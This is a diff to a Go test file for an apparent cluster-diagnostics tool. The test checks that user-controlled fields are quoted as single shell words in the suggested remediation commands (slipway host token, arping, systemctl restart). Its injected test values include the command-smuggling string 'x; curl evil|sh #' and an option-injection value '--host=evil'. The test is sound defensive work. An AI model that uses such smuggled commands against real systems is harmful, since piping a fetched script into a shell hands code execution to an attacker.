@@ -783,14 +783,19 @@ func TestRefusalsByNamespace(t *testing.T) {
 // What others than administrators chose is one word of the command that is shown: a machine writes
 // the namespace of its request, and whoever may write a HostCluster its endpoint.
 func TestCommandsAreWords(t *testing.T) {
-	const injected = "x; curl evil|sh #'\n"
+	const injected, option = "x; curl evil|sh #'\n\u2028\u202e", "--host=evil"
 	s := healthy()
 	deny(&s.Requests[0])
 	s.Requests[0].Spec.Request = requestBy(t, infrav1.AgentUserPrefix+injected+":h9:key")
 	set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointContestedReason, "another machine has it")
 	s.HostClusters[0].Spec.ControlPlaneEndpoint.Host = injected
-	const word = `'x; curl evil|sh #'\''` + "\ufffd'"
-	want := map[string]string{"EnrollmentRefused": "slipway host token h9 -n " + word, "AddressContested": "on a host of that network: arping " + word}
+	const word = `'x; curl evil|sh #'\''` + "\ufffd\ufffd\ufffd'"
+	serving := &s.Hosts[slices.IndexFunc(s.Hosts, func(h infrav1.Host) bool { return serves(&h) })]
+	serving.Status.Services = []infrav1.HostService{{Name: option, State: "failed", Since: metav1.Time{Time: now.Add(-time.Hour)}}}
+	want := map[string]string{
+		"EnrollmentRefused": "slipway host token h9 -n " + word, "AddressContested": "on a host of that network: arping " + word,
+		"ServiceDown": "on the host: systemctl restart '\ufffd" + option + "'",
+	}
 	for _, f := range Diagnose(s).Findings {
 		if next, ok := want[f.Check]; ok && f.Next == next {
 			delete(want, f.Check)
